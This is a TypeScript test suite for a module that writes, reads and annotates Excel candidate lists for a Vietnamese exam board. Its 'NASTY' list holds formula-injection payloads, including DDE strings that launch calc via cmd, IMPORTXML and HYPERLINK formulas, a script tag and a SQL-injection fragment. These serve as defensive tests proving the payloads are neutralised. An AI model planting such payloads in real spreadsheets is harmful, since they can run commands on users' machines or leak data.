import ExcelJS from 'exceljs';
import { utils, write } from '@e965/xlsx';
import { inflateRawSync } from 'node:zlib';
import { inspectFile } from '../../src/application/files/inspect';
import { createExcel } from '../../src/excel';
import type { ListSheet } from '../../src/excel';
import { safeText } from '../../src/excel/cells';

const excel = createExcel();
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

const LIST: ListSheet = {
  name: 'Danh sách',
  agency: ['Ủy ban nhân dân tỉnh A', 'Sở Nội vụ'],
  title: 'DANH SÁCH THÍ SINH',
  subtitle: 'Kỳ thi tuyển năm 2026',
  placeAndDate: 'Hà Nội, ngày 05 tháng 02 năm 2026',
  columns: [
    { title: 'TT', kind: 'whole', width: 6 },
    { title: 'Họ và tên', kind: 'text', width: 30 },
    { title: 'Ngày sinh', kind: 'day', width: 14 },
    { title: 'Điểm', kind: 'mark', width: 10 },
  ],
  rows: [],
  signer: ['TM. HỘI ĐỒNG', 'CHỦ TỊCH'],
};

/** Texts a person could type or paste into any field (T-EXP): each is kept readable, and none can run. */
const NASTY: readonly string[] = [
  '=HYPERLINK("http://a.example","Xem")',
  '=1+1',
  '+84912345678',
  '-5',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1',
  '\n=1',
  '\u0000=1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("http://a/",A1),"//a")',
  '"=1+1',
  "'=1+1",
  ' =1+1',
  '{{ 7 | plus: 1 }}',
  '{% if a %}',
  '**đậm**',
  '[[CHU_KY]]',
  '<script>alert(1)</script>',
  '&lt;b&gt;',
  ']]>',
  '\u202Eevil',
  '\u200B=1',
  'Nguyễn Văn Á'.normalize('NFD'),
  'é'.normalize('NFD'),
  '\u0301',
  '👩‍👩‍👧‍👦',
  '\uD800',
  'a\uDC00b',
  'Ă'.repeat(100),
  'x'.repeat(40_000),
  'a\u000Bb',
  '\uFFFE',
  "O'Brien; DROP TABLE",
  '_x0041_',
  '_x003D_1+1',
  '1e5',
  '001',
  '12/03',
  'TRUE',
  '#REF!',
];

async function partsOf(bytes: Buffer): Promise<ReadonlyMap<string, string>> {
  const parts = new Map<string, string>();
  let at = bytes.readUInt32LE(bytes.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1')) + 16);
  while (bytes.readUInt32LE(at) === 0x02014b50) {
    const [packed, offset] = [bytes.readUInt32LE(at + 20), bytes.readUInt32LE(at + 42)];
    const length = bytes.readUInt16LE(at + 28);
    const start = offset + 30 + bytes.readUInt16LE(offset + 26) + bytes.readUInt16LE(offset + 28);
    const data = bytes.subarray(start, start + packed);
    const text = (bytes.readUInt16LE(at + 10) === 0 ? data : inflateRawSync(data)).toString('utf8');
    parts.set(bytes.toString('utf8', at + 46, at + 46 + length), text);
    at += 46 + length + bytes.readUInt16LE(at + 30) + bytes.readUInt16LE(at + 32);
  }
  return Promise.resolve(parts);
}

async function opened(bytes: Buffer): Promise<ExcelJS.Workbook> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(bytes as unknown as ArrayBuffer);
  return book;
}

describe('a list as .xlsx', () => {
  it(`holds ${String(NASTY.length)} nasty texts as plain text: no formula, no link, no outside relation (T-EXP)`, async () => {
    const bytes = await excel.write({ ...LIST, rows: NASTY.map((text, index) => [index + 1, text, null, null]) });
    const parts = await partsOf(bytes);
    const all = [...parts.values()].join('\n');
    expect(all).not.toMatch(/<f[ >]|<hyperlink|TargetMode="External"|<oleObject|ddeLink/);
    const sheet = (await opened(bytes)).worksheets[0]!;
    NASTY.forEach((text, index) => {
      const { value } = sheet.getCell(8 + index, 2);
      expect(value === null ? '' : value).toBe(safeText(text));
      expect(/^[=+\-@\t\r\n＝＋－＠]/.test(JSON.stringify(value ?? '').slice(1))).toBe(false);
    });
    expect('kind' in inspectFile(bytes, { purpose: 'CANDIDATE_LIST', name: 'a.xlsx', declaredType: XLSX })).toBe(true);
  });

  it('holds marks as numbers of two decimals and days as days, whatever the time zone', async () => {
    const sheet = (await opened(await excel.write({ ...LIST, rows: [[1, 'Lò Thị A', '1985-02-28', 8_350]] })))
      .worksheets[0]!;
    expect(sheet.getCell('D8').value).toBe(83.5);
    expect(sheet.getCell('D8').numFmt).toBe('0.00');
    expect((sheet.getCell('C8').value as Date).toISOString()).toBe('1985-02-28T00:00:00.000Z');
    expect(sheet.getCell('C8').numFmt).toBe('dd/mm/yyyy');
  });

  it('has the head of NĐ 30/2020, its column titles on every page, page numbers, borders and a place to sign', async () => {
    const sheet = (await opened(await excel.write({ ...LIST, rows: [[1, 'A', null, null]] }))).worksheets[0]!;
    const texts = ['A1', 'A2', 'C1', 'C2', 'C3', 'A4', 'C10', 'C11'].map((cell) => sheet.getCell(cell).value);
    expect(texts).toEqual([
      'ỦY BAN NHÂN DÂN TỈNH A',
      'SỞ NỘI VỤ',
      'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
      'Độc lập - Tự do - Hạnh phúc',
      'Hà Nội, ngày 05 tháng 02 năm 2026',
      'DANH SÁCH THÍ SINH',
      'TM. HỘI ĐỒNG',
      'CHỦ TỊCH',
    ]);
    expect(sheet.pageSetup).toMatchObject({ paperSize: 9, fitToWidth: 1, printTitlesRow: '7:7' });
    expect(sheet.headerFooter.oddFooter).toContain('&P/&N');
    expect(sheet.getCell('B8').border.top?.style).toBe('thin');
    expect(sheet.getCell('B8').font.name).toBe('Times New Roman');
  });
});

describe('a list that is brought in', () => {
  it('comes as plain values: texts composed and trimmed, days as days, formulas and errors marked', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Một');
    sheet.getCell('A2').value = `  ${'Nguyễn\u00A0Văn  Á'.normalize('NFD')} `;
    sheet.getCell('B2').value = new Date('1990-05-04T00:00:00.000Z');
    sheet.getCell('C2').value = { formula: '1+1', result: 2 };
    sheet.getCell('D2').value = { error: '#REF!' };
    sheet.getCell('E2').value = { text: 'liên kết', hyperlink: 'http://a.example' };
    sheet.getCell('F2').value = { richText: [{ text: 'hai ' }, { text: 'phần' }] };
    const read = await excel.read(Buffer.from(await book.xlsx.writeBuffer()), 'XLSX');
    if ('reason' in read) throw new Error(read.reason);
    expect(read.rows.map(({ number }) => number)).toEqual([2]);
    expect(read.rows[0]!.cells.map(({ value }) => value)).toEqual([
      'Nguyễn Văn Á',
      '1990-05-04',
      2,
      '#REF!',
      'liên kết',
      'hai phần',
    ]);
    expect(read.rows[0]!.cells.map(({ day, isFormula, isError }) => [day, isFormula, isError])).toEqual([
      [null, false, false],
      ['1990-05-04', false, false],
      [null, true, false],
      [null, false, true],
      [null, false, false],
      [null, false, false],
    ]);
  });

  it('comes out of an old .xls alike', async () => {
    const sheet = utils.aoa_to_sheet([
      ['Họ tên', 'Ngày sinh'],
      [' Lò  Văn B ', 33_000],
    ]);
    (sheet['B2'] as { z?: string }).z = 'dd/mm/yyyy';
    const bytes = Buffer.from(
      write({ SheetNames: ['a'], Sheets: { a: sheet } }, { type: 'buffer', bookType: 'biff8' }) as Buffer,
    );
    expect(
      'kind' in
        inspectFile(bytes, { purpose: 'CANDIDATE_LIST', name: 'a.xls', declaredType: 'application/vnd.ms-excel' }),
    ).toBe(true);
    const read = await excel.read(bytes, 'XLS');
    if ('reason' in read) throw new Error(read.reason);
    expect(read.rows[1]!.cells.map(({ value, day }) => [value, day])).toEqual([
      ['Lò Văn B', null],
      ['1990-05-07', '1990-05-07'],
    ]);
  });

  it('is refused when it is too long, too wide, or no workbook', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('a');
    for (let row = 1; row <= 5_001; row += 1) sheet.getCell(row, 1).value = row;
    expect(await excel.read(Buffer.from(await book.xlsx.writeBuffer()), 'XLSX')).toEqual({
      reason: 'Tệp có hơn 5000 dòng.',
    });
    const wide = new ExcelJS.Workbook();
    for (let column = 1; column <= 51; column += 1)
      (wide.getWorksheet('b') ?? wide.addWorksheet('b')).getCell(1, column).value = 1;
    expect(await excel.read(Buffer.from(await wide.xlsx.writeBuffer()), 'XLSX')).toEqual({
      reason: 'Tệp có hơn 50 cột.',
    });
    expect(await excel.read(Buffer.from('PK'), 'XLSX')).toEqual({ reason: 'Tệp Excel bị hỏng hoặc không đúng loại.' });
  });

  it('goes back with only the cells at fault coloured and noted, and a sheet of findings', async () => {
    const bytes = await excel.write({
      ...LIST,
      rows: [
        [1, 'A', null, null],
        [2, 'B', null, null],
      ],
    });
    const back = await opened(
      await excel.annotate(bytes, [
        { row: 9, column: 2, severity: 'WARNING', message: 'Tên quá ngắn.' },
        { row: 8, column: 2, severity: 'ERROR', message: '=Thiếu họ.' },
        { row: 8, column: 2, severity: 'NOTE', message: 'Xem lại.' },
      ]),
    );
    const sheet = back.worksheets[0]!;
    const colour = (cell: string) => (sheet.getCell(cell).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
    expect(['B8', 'B9', 'A8', 'C8'].map(colour)).toEqual(['FFFFC7CE', 'FFFFEB9C', undefined, undefined]);
    expect(JSON.stringify(sheet.getCell('B8').note)).toContain('Lỗi: =Thiếu họ.');
    const findings = back.getWorksheet('Kết quả kiểm tra')!;
    expect([2, 3, 4].map((row) => [1, 2, 3, 4].map((column) => findings.getCell(row, column).value))).toEqual([
      [8, 'B', 'Lỗi', "'=Thiếu họ."],
      [8, 'B', 'Nhắc', 'Xem lại.'],
      [9, 'B', 'Cảnh báo', 'Tên quá ngắn.'],
    ]);
  });
});
